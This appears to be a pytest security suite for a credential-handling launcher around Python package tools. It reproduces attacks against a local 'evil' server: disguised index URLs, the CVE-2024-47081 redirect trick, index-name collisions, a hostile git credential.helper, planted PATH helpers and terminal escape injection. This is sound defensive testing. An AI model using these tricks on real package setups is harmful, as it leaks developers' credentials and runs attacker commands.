"""Ways around the place that a credential belongs to: another port or scheme of its host, redirects, names that are only the same.

Each attack is shown to succeed with the credential handed over in a usual way, and to get nothing through the launcher.
"""

from __future__ import annotations

import os
import subprocess
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from shim.cli.demo.server import PrivateIndex
from tests.support import machine, toolchains
from tests.support.attacker import Attacker
from tests.support.hints import follows
from tests.support.matrix_http import Origin as Proxy
from tests.support.matrix_http import Reply
from tests.support.realms import Realms, basic
from tests.support.world import CANARY, USER, World

Packages = tuple[str, dict[str, list[str]]]
#: Releases in which requests takes the host of a redirect's user name for the server's (CVE-2024-47081).
TRICKED = "23.2.1"


@pytest.fixture
def evil() -> Iterator[Attacker]:
    with Attacker() as attacker:
        yield attacker


def configure(world: World, index: PrivateIndex, *lines: str) -> str:
    url = f"http://{index.netloc}/simple/"
    settings = [f'url = "{url}"', f'username = "{USER}"', *(lines or ('env = { password = "CORP_TOKEN" }',))]
    world.configure("[[index]]\nname = 'corp'\n" + "\n".join(settings) + "\n")
    world.environ["CORP_TOKEN"] = CANARY
    return url


def as_netrc(world: World, host: str = "127.0.0.1") -> dict[str, str]:
    netrc = world.folder / "config" / "netrc"
    netrc.write_text(f"machine {host} login {USER} password {CANARY}\n")
    netrc.chmod(0o600)
    return {"NETRC": str(netrc)}


@pytest.mark.parametrize("door", ["direct URL", "find-links", "requirement", "extra index"])
@pytest.mark.parametrize("version", [TRICKED, "newest"])
def test_another_port_of_the_host_gets_nothing_from_pip(version: str, door: str, world: World, index: PrivateIndex, evil: Attacker) -> None:
    world.use(toolchains.pip(version))
    there = f"http://127.0.0.1:{evil.port}/x/"
    (world.cwd / "requirements.txt").write_text(f"corp-evil @ {there}corp_evil-1-py3-none-any.whl\n")
    words = {
        "direct URL": [f"{there}corp_evil-1-py3-none-any.whl"],
        "find-links": ["--find-links", there],
        "requirement": ["-r", "requirements.txt"],
        "extra index": ["--extra-index-url", there],
    }[door]
    url = f"http://{index.netloc}/simple/"
    command = ["pip", "install", "--target", world.folder / "out", "-i", url, "corp-lib", *words]
    world.run(*command, bare=True, **as_netrc(world))
    assert evil.has_secret
    evil.loot.clear()
    configure(world, index)
    world.run(*command)

    assert evil.asked
    assert evil.loot == []


#: Ways in which a project can name a URL so that a scan of its files does not see it.
DISGUISES = {
    "lock: escaped": (
        "pylock.toml",
        'lock-version = "1.0"\ncreated-by = "x"\n[[packages]]\nname = "corp-evil"\n[packages.archive]\nurl = "http:\\u002F\\u002F{rest}"\nhashes = {{sha256 = "00"}}\n',
    ),
    "lock: lines": (
        "pylock.toml",
        'lock-version = "1.0"\ncreated-by = "x"\n[[packages]]\nname = "corp-evil"\n[packages.archive]\nurl = """\nhttp://{rest}"""\nhashes = {{sha256 = "00"}}\n',
    ),
    "project: escaped": ("pyproject.toml", '[build-system]\nrequires = ["corp-evil @ \\u0068ttp://{rest}"]\nbuild-backend = "x"\n'),
    "page: slash": ("page.html", '<a/href="http://{rest}">x</a>'),
    "page: quotes": ("page.html", '<a title="<b>" href="http://{rest}">x</a>'),
    "page: tab": ("page.html", '<a href="ht\ttp://{rest}">x</a>'),
    "page: base": ("page.html", '<base title=">" href="http://{folder}"><a href="{file}">x</a>'),
}


@pytest.mark.parametrize("disguise", DISGUISES)
def test_another_port_in_disguise_gets_nothing_from_pip(disguise: str, world: World, index: PrivateIndex, evil: Attacker) -> None:
    world.use(toolchains.pip("newest"))
    name, text = DISGUISES[disguise]
    folder, file = f"127.0.0.1:{evil.port}/x/", "corp_evil-1-py3-none-any.whl"
    (world.cwd / name).write_text(text.format(rest=folder + file, folder=folder, file=file))
    words = {"pylock.toml": ["-r", "pylock.toml"], "pyproject.toml": ["."], "page.html": ["--find-links", "page.html", "corp-evil"]}[name]
    command = ["pip", "install", "--target", world.folder / "out", "-i", f"http://{index.netloc}/simple/", *words]
    world.run(*command, bare=True, **as_netrc(world))
    assert evil.has_secret
    evil.loot.clear()
    configure(world, index)
    world.run(*command)

    assert evil.loot == []


@pytest.mark.parametrize("version", ["0.9.30", "newest"])
def test_another_port_of_the_host_gets_nothing_from_uv(version: str, world: World, index: PrivateIndex, evil: Attacker) -> None:
    world.use(toolchains.uv(version))
    url = f"http://{index.netloc}/simple/"
    command = [
        "uv",
        "pip",
        "install",
        "--target",
        world.folder / "out",
        "-i",
        url,
        "corp-lib",
        f"x @ http://127.0.0.1:{evil.port}/x-1-py3-none-any.whl",
    ]
    world.run(*command, bare=True, **as_netrc(world))
    assert evil.has_secret
    evil.loot.clear()
    configure(world, index)
    world.run(*command)

    assert evil.asked
    assert evil.loot == []


@pytest.mark.parametrize("version", [TRICKED, "newest"])
def test_a_redirect_that_bears_our_host_as_user_name_gets_nothing(version: str, world: World, index: PrivateIndex, evil: Attacker) -> None:
    """CVE-2024-47081: `http://127.0.0.1:@localhost:PORT/` is localhost's, and an old requests looks up 127.0.0.1."""
    world.use(toolchains.pip(version))
    with Attacker(lambda path: f"http://127.0.0.1:@localhost:{evil.port}{path}") as redirector:
        url = f"http://{index.netloc}/simple/"
        extra = f"http://localhost:{redirector.port}/simple/"
        command = ["pip", "install", "--target", world.folder / "out", "-i", url, "--extra-index-url", extra, "corp-lib"]
        world.run(*command, bare=True, **as_netrc(world))
        assert evil.has_secret == (version == TRICKED)
        evil.loot.clear()
        configure(world, index)
        result = world.run(*command)

    assert result.returncode == 0, result.stderr
    assert evil.asked
    assert evil.loot == []


@pytest.mark.parametrize("version", ["25.3", "newest"])
def test_a_server_that_the_user_vouches_for_is_no_stranger(version: str, world: World, index: PrivateIndex, evil: Attacker) -> None:
    """pip 25.3 asks no keyring for an index in a file: the hint says how to go on."""
    world.use(toolchains.pip(version))
    with Attacker(sends_to("link", evil)) as other:
        extra = f"http://localhost:{other.port}/simple/"
        url = configure(world, index)
        (world.cwd / "requirements.txt").write_text(f"-i {url}\n--extra-index-url {extra}\ncorp-lib\n")
        command = ["pip", "install", "--target", world.folder / "out", "-r", "requirements.txt"]
        stopped = world.run(*command)
        world.configure(world.config.read_text() + f"[[index]]\nname = 'other'\nurl = '{extra}'\non-failure = 'pass'\n")
        result = world.run(*command, SHIM_DEBUG="1")

    assert stopped.returncode == (77 if version == "25.3" else 0)
    if version == "25.3":
        assert "hint: a newer release of the tool takes it" in stopped.stderr
    assert result.returncode == 0, result.stderr
    assert "channel netrc" in result.stderr


def sends_to(way: str, evil: Attacker) -> Callable[[str], str]:
    """Return how a server answers that leads to another port of our host: by a redirect, or by a link."""
    there = f"http://127.0.0.1:{evil.port}/"
    return lambda path: (
        f"{there}{path}" if way == "redirect" else f'<a href="{there}corp_evil-1-py3-none-any.whl">corp_evil-1-py3-none-any.whl</a>'
    )


@pytest.mark.parametrize("way", ["redirect", "link"])
@pytest.mark.parametrize("version", ["24.0", "newest"])
def test_another_index_that_leads_pip_to_another_port_of_our_host_gets_nothing(
    version: str, way: str, world: World, index: PrivateIndex, evil: Attacker
) -> None:
    """A netrc reaches every port of its host."""
    world.use(toolchains.pip(version))
    with Attacker(sends_to(way, evil)) as other:
        url = f"http://{index.netloc}/simple/"
        extra = f"http://localhost:{other.port}/simple/"
        command = ["pip", "install", "--target", world.folder / "out", "-i", url, "--extra-index-url", extra, "corp-lib", "corp-evil"]
        world.run(*command, bare=True, **as_netrc(world))
        assert evil.has_secret
        evil.loot.clear()
        evil.asked.clear()
        configure(world, index)
        world.run(*command)

    assert evil.asked
    assert evil.loot == []


@pytest.mark.parametrize("where", ["uv.toml", "pyproject.toml", "a dependency"])
def test_an_index_that_only_bears_the_name_gets_nothing(where: str, world: World, index: PrivateIndex, evil: Attacker) -> None:
    """uv binds UV_INDEX_CORP_PASSWORD to a name, which any project can give to its own server."""
    world.use(toolchains.uv())
    url = f"http://{index.netloc}/simple/"
    head = '[project]\nname = "p"\nversion = "1"\nrequires-python = ">=3.11"\n'
    wanting = 'dependencies = ["corp-evil"]\n'
    theirs = f'name = "corp"\nurl = "http://localhost:{evil.port}/simple/"\n'
    pin = '[tool.uv.sources]\ncorp-evil = { index = "corp" }\n'
    main = world.cwd / "pyproject.toml"
    if where == "uv.toml":
        main.write_text(head + wanting)
        (world.cwd / "uv.toml").write_text(f"[[index]]\n{theirs}")
    elif where == "pyproject.toml":
        main.write_text(f"{head}{wanting}{pin}[[tool.uv.index]]\n{theirs}")
    else:
        (world.cwd / "dep").mkdir()
        (world.cwd / "dep" / "pyproject.toml").write_text(
            f"{head.replace(chr(34) + 'p' + chr(34), chr(34) + 'dep' + chr(34))}{wanting}{pin}[[tool.uv.index]]\n{theirs}"
        )
        main.write_text(
            f'{head}dependencies = ["dep"]\n[tool.uv.sources]\ndep = {{ path = "dep" }}\n[[tool.uv.index]]\nname = "corp"\nurl = "{url}"\n'
        )
    world.run("uv", "lock", bare=True, UV_INDEX_CORP_USERNAME=USER, UV_INDEX_CORP_PASSWORD=CANARY)
    assert evil.has_secret
    evil.loot.clear()
    configure(world, index)
    world.run("uv", "lock")

    assert evil.asked
    assert evil.loot == []


def test_a_pip_conf_section_or_project_index_of_our_name_selects_nothing(world: World, index: PrivateIndex, evil: Attacker) -> None:
    """pip has no names; what a requirements file calls our host by another scheme is another place."""
    world.use(toolchains.pip("newest"))
    configure(world, index)
    (world.cwd / "requirements.txt").write_text(f"--index-url http://{USER}@127.0.0.1:{evil.port}/simple/\ncorp-lib\n")
    world.run("pip", "install", "--target", world.folder / "out", "-r", "requirements.txt")

    assert evil.asked
    assert evil.loot == []


def hostile_repository(world: World) -> Path:
    """Make the working directory a repository whose configuration runs a program when git is asked for a credential."""
    subprocess.run(["git", "init", "-q", str(world.cwd)], check=True)
    helper = f"!touch {world.folder}/pwned; echo username=x; echo password=x"
    subprocess.run(["git", "-C", str(world.cwd), "config", "credential.helper", helper], check=True)
    return world.folder / "pwned"


def test_git_asked_for_a_secret_obeys_no_repository(world: World, index: PrivateIndex) -> None:
    world.use(toolchains.pip("newest"))
    pwned = hostile_repository(world)
    script = "printf 'protocol=https\\nhost=corp.example\\n\\n' | git credential fill"
    world.run("sh", "-c", script)
    assert pwned.exists()
    pwned.unlink()
    configure(
        world,
        index,
        f"command = {{ argv = ['sh', '-c', '''{script} >/dev/null 2>&1; pwd >{world.folder}/where; env >{world.folder}/environment; echo $TOKEN''' ] }}",
    )
    result = world.run(
        *("pip", "install", "--target", world.folder / "out", "-i", f"http://{index.netloc}/simple/", "corp-lib"),
        TOKEN=CANARY, GIT_DIR=str(world.cwd / ".git"), GIT_CONFIG_COUNT="0",
    )  # fmt: skip
    environment = (world.folder / "environment").read_text()
    (world.folder / "environment").unlink()

    assert result.returncode == 0, result.stderr
    assert not pwned.exists()
    assert (world.folder / "where").read_text() == "/\n"
    ours = {"GIT_TERMINAL_PROMPT", "GIT_ASKPASS"}  # so that git asks nobody by itself
    assert {line.partition("=")[0] for line in environment.splitlines() if line.startswith("GIT_")} <= ours


@pytest.mark.parametrize("folder", ["relative", "writable by everybody"])
def test_a_helper_is_not_taken_from_an_unsafe_folder(folder: str, world: World, index: PrivateIndex) -> None:
    world.use(toolchains.pip("newest"))
    planted = world.cwd / "bin"
    planted.mkdir()
    (planted / "corp-token").write_text(f"#!/bin/sh\ntouch {world.folder}/pwned\necho {CANARY[::-1]}\n")
    (planted / "corp-token").chmod(0o755)
    planted.chmod(0o777 if folder == "writable by everybody" else 0o755)
    entry = "bin" if folder == "relative" else str(planted)
    own = world.folder / "own"
    own.mkdir()
    (own / "corp-token").write_text("#!/bin/sh\necho $TOKEN\n")
    (own / "corp-token").chmod(0o755)
    path = world.environ["PATH"].replace(":", f":{entry}:", 1) + f":{own}"
    assert world.run("sh", "-c", "corp-token", PATH=path).stdout == CANARY[::-1] + "\n"
    (world.folder / "pwned").unlink()
    configure(world, index, 'command = { argv = ["corp-token"] }')
    result = world.run(
        "pip", "install", "--target", world.folder / "out", "-i", f"http://{index.netloc}/simple/", "corp-lib", PATH=path, TOKEN=CANARY
    )

    assert result.returncode == 0, result.stderr
    assert not (world.folder / "pwned").exists()


@pytest.mark.parametrize("variables", [{"HOME": ""}, {"HOME": "."}, {"XDG_CONFIG_HOME": "."}], ids=str)
def test_a_folder_of_the_project_never_configures_us(variables: dict[str, str], world: World, index: PrivateIndex) -> None:
    """With a relative or missing HOME, `~/.config` is a folder of whoever made the project."""
    world.use(toolchains.pip("newest"))
    text = f'[[index]]\nname = "corp"\nurl = "http://{index.netloc}/simple/"\ncommand = {{ argv = ["touch", "{world.folder}/pwned"] }}\n'
    for folder in ("~/.config/shim", ".config/shim", "shim"):
        (world.cwd / folder).mkdir(parents=True)
        (world.cwd / folder / "config.toml").write_text(text)
    if "XDG_CONFIG_HOME" not in variables:
        del world.environ["XDG_CONFIG_HOME"]
    result = world.run("pip", "install", "--target", world.folder / "out", "-i", f"http://{index.netloc}/simple/", "corp-lib", **variables)

    assert index.requests, result.stderr
    assert not (world.folder / "pwned").exists()
    assert sorted(path.name for path in world.cwd.iterdir()) == [".config", "shim", "~"]


@pytest.mark.parametrize("mode", [0o666, 0o606])
def test_a_configuration_that_everybody_can_write_is_refused(mode: int, world: World, index: PrivateIndex) -> None:
    world.use(toolchains.pip("newest"))
    url = configure(world, index, f'command = {{ argv = ["touch", "{world.folder}/pwned"] }}')
    world.config.chmod(mode)
    result = world.run("pip", "install", "--target", world.folder / "out", "-i", url, "corp-lib")

    assert result.returncode == 78
    assert not (world.folder / "pwned").exists()


def test_the_users_private_group_may_write_a_configuration(world: World, index: PrivateIndex) -> None:
    world.use(toolchains.pip("newest"))
    url = configure(world, index)
    own = os.geteuid() in (0, os.getegid())
    machine.skip_without("" if own else "your group is not yours alone: run it as a user with a group of the same number")
    os.chown(world.config, os.geteuid(), os.geteuid())
    world.config.chmod(0o664)

    assert world.run("pip", "install", "--target", world.folder / "out", "-i", url, "corp-lib").returncode == 0


def test_neither_a_server_nor_a_project_writes_to_the_terminal(world: World, index: PrivateIndex) -> None:
    world.use(toolchains.pip("newest"))
    with Attacker(lambda _: "http://127.0.0.1:9/\x1b[2J\x1b]0;pwned\x07") as server:
        url = f"http://127.0.0.1:{server.port}/simple/"
        world.configure(f'[[index]]\nname = "corp"\nurl = "{url}"\nusername = "{USER}"\nenv = {{ password = "CORP_TOKEN" }}\n')
        project = world.cwd / "\x1b[31mevil"
        project.mkdir()
        (project / "requirements.txt").write_text(f"--index-url {url}\n--extra-index-url http://{index.netloc}/simple/\ncorp-lib\n")
        result = world.run("pip", "install", "-r", project / "requirements.txt", CORP_TOKEN=CANARY, SHIM_DEBUG="1")

    assert result.returncode == 77
    assert "\x1b" not in result.stderr
    assert "\x07" not in result.stderr


def use_other(world: World, wrapped: Path, name: str) -> None:
    """Put one of the tools that install projects behind its launcher."""
    world.prefix = wrapped
    world.use(toolchains.program(name, *(["pdm[locked]"] if name == "pdm" else [name])))
    del world.environ["VIRTUAL_ENV"]
    python = str(toolchains.python_for())
    world.environ |= {"PIPENV_DEFAULT_PYTHON_VERSION": python, "PDM_PYTHON": python, "PIPENV_IGNORE_VIRTUALENVS": "1", "CI": "1"}


PROJECT = '[project]\nname = "p"\nversion = "1"\nrequires-python = ">=3.11"\n'


@pytest.mark.parametrize("name", ["pipenv", "pdm", "poetry"])
def test_another_port_that_a_project_names_gets_nothing_from_its_tool(
    name: str, world: World, wrapped: Path, index: PrivateIndex, evil: Attacker
) -> None:
    use_other(world, wrapped, name)
    url, there = configure(world, index), f"http://127.0.0.1:{evil.port}/corp_evil-1-py3-none-any.whl"
    if name == "pipenv":
        sources = f'[[source]]\nname = "corp"\nurl = "{url}"\nverify_ssl = true\n'
        (world.cwd / "Pipfile").write_text(f'{sources}[packages]\ncorp-evil = {{file = "{there}"}}\n')
    else:
        source = f'[[tool.{name}.source]]\nname = "corp"\nurl = "{url}"\n'
        (world.cwd / "pyproject.toml").write_text(f'{PROJECT}dependencies = ["corp-evil @ {there}"]\n{source}')
    world.run(name, "lock", bare=True, **as_netrc(world))
    assert evil.has_secret
    evil.loot.clear()
    evil.asked.clear()
    world.run(name, "lock")

    assert evil.asked != []  # the tool runs: the credential goes to its index by URL or by name, not by host
    assert evil.loot == []


@pytest.mark.parametrize(("name", "way"), [("pipenv", "redirect"), ("pdm", "link"), ("poetry", "redirect"), ("poetry", "link")])
def test_another_source_that_leads_a_tool_to_another_port_of_our_host_gets_nothing(
    name: str, way: str, world: World, wrapped: Path, index: PrivateIndex, evil: Attacker
) -> None:
    use_other(world, wrapped, name)
    with Attacker(sends_to(way, evil)) as other:
        sources = {"corp": configure(world, index), "other": f"http://localhost:{other.port}/simple/"}
        if name == "pipenv":
            rows = "".join(f'[[source]]\nname = "{one}"\nurl = "{url}"\nverify_ssl = true\n' for one, url in sources.items())
            (world.cwd / "Pipfile").write_text(f'{rows}[packages]\ncorp-lib = "*"\ncorp-evil = {{version = "*", index = "other"}}\n')
        else:
            rows = "".join(f'[[tool.{name}.source]]\nname = "{one}"\nurl = "{url}"\n' for one, url in sources.items())
            (world.cwd / "pyproject.toml").write_text(f'{PROJECT}dependencies = ["corp-lib", "corp-evil"]\n{rows}')
        world.run(name, "lock", bare=True, **as_netrc(world))
        assert evil.has_secret
        evil.loot.clear()
        evil.asked.clear()
        world.run(name, "lock")

    assert evil.asked != []
    assert evil.loot == []


@pytest.mark.parametrize("place", ["another source", "poetry.toml"])
def test_a_poetry_source_of_a_like_name_gets_nothing(place: str, world: World, wrapped: Path, evil: Attacker, packages: Packages) -> None:
    """Two credentials on one host go by variables that are called after the sources; `corp-a` and `corp_a` have the same."""
    use_other(world, wrapped, "poetry")
    there = f"http://127.0.0.1:{evil.port}/simple/"
    with Realms(*packages, {"/a": basic(USER, CANARY), "/b": basic("bob", CANARY)}) as server:
        urls = {"corp-a": server.url("/a/simple/"), "corp-b": server.url("/b/simple/")}
        rows = [
            f'[[index]]\nname = "{name}"\nurl = "{url}"\nusername = "{user}"\nenv = {{ password = "CORP_TOKEN" }}\n'
            for (name, url), user in zip(urls.items(), (USER, "bob"), strict=True)
        ]
        world.configure("".join(rows))
        world.environ["CORP_TOKEN"] = CANARY
        sources = urls | {"corp_a" if place == "another source" else "other": there}
        text = "".join(f'[[tool.poetry.source]]\nname = "{name}"\nurl = "{url}"\npriority = "explicit"\n' for name, url in sources.items())
        wanted = f'dependencies = ["corp-evil"]\n[tool.poetry.dependencies]\ncorp-evil = {{source = "{[*sources][-1]}"}}\n'
        (world.cwd / "pyproject.toml").write_text(PROJECT + wanted + text)
        if place == "poetry.toml":
            (world.cwd / "poetry.toml").write_text(f'[repositories.corp_a]\nurl = "{there}"\n')
        words = ["poetry", "lock", "--no-interaction"]
        world.run(*words, bare=True, POETRY_HTTP_BASIC_CORP_A_USERNAME=USER, POETRY_HTTP_BASIC_CORP_A_PASSWORD=CANARY)
        assert evil.has_secret
        evil.loot.clear()
        result = world.run(*words)

    assert evil.loot == []
    assert result.returncode == 77, result.stdout + result.stderr
    assert "give each source of the project a name of its own" in result.stderr


class PlainProxy(Proxy):
    """Plays plain http hosts: pypi.corp.test is private, all others serve everybody nothing."""

    def answer(self, method: str, target: str, authorization: str | None, body: bytes) -> Reply:
        is_private = target.startswith("http://pypi.corp.test/")
        return Reply(401 if is_private and not authorization else 200, b"<html></html>", "text/html")


@follows("write https, or have pip trust the host with --trusted-host")
@pytest.mark.parametrize("others", [[], ["--extra-index-url", "http://localhost:1/simple/"], ["--extra-index-url", "http://other.test/simple/"]])
def test_plain_http_that_pip_passes_by_gets_no_password_from_us_either(others: list[str], world: World) -> None:
    world.use(toolchains.pip("newest"))
    proxy = PlainProxy("127.0.0.1")
    words = ["pip", "download", "-i", f"http://{USER}:{CANARY}@pypi.corp.test/simple/", *others, "corp-lib"]
    try:
        bare = world.run(*words, bare=True, http_proxy=f"http://{proxy.netloc}")
        result = world.run(*words, http_proxy=f"http://{proxy.netloc}")

        assert [request for request in proxy.log if request.user] == []
        assert "is not a trusted or secure host" in bare.stderr
        if "http://other.test/simple/" in others:
            assert "plain http on another machine, which pip passes by" in result.stderr
            assert result.returncode == 77
        else:
            assert (result.returncode, result.stderr) == (bare.returncode, bare.stderr)
        world.run(*words, "--trusted-host", "pypi.corp.test", http_proxy=f"http://{proxy.netloc}")

        assert [request.user for request in proxy.log if request.user][-1:] == [USER]
    finally:
        proxy.close()


@follows("write the URL without . and .. in its path")
@pytest.mark.parametrize("version", ["newest", "20.3.4"])
@pytest.mark.parametrize("path", ["x/../simple/", "./simple/", "x/%2e%2e/simple/"])
def test_a_typed_index_with_steps_in_its_path_is_left_to_pip_unless_another_one_answers(
    path: str, version: str, world: World, index: PrivateIndex
) -> None:
    """Programs resolve them before they ask, or leave that to the server: no credential goes there by our hand."""
    world.use(toolchains.pip(version))
    typed, elsewhere = f"http://{USER}:{CANARY}@{index.netloc}/{path}", index.netloc.replace("127.0.0.1", "localhost")
    words = ["pip", "download", "-d", world.cwd, "-i", typed, "corp-lib"]
    bare = world.run(*words, bare=True)
    alone = world.run(*words)
    stopped = world.run(*words, "--extra-index-url", f"http://{elsewhere}/simple/")
    mended = world.run(*[typed.replace(path, "simple/") if word == typed else word for word in words])

    assert (alone.returncode, alone.stderr) == (bare.returncode, bare.stderr)
    assert (stopped.returncode, "write the URL without . and .. in its path" in stopped.stderr) == (77, True), stopped.stderr
    assert mended.returncode == 0
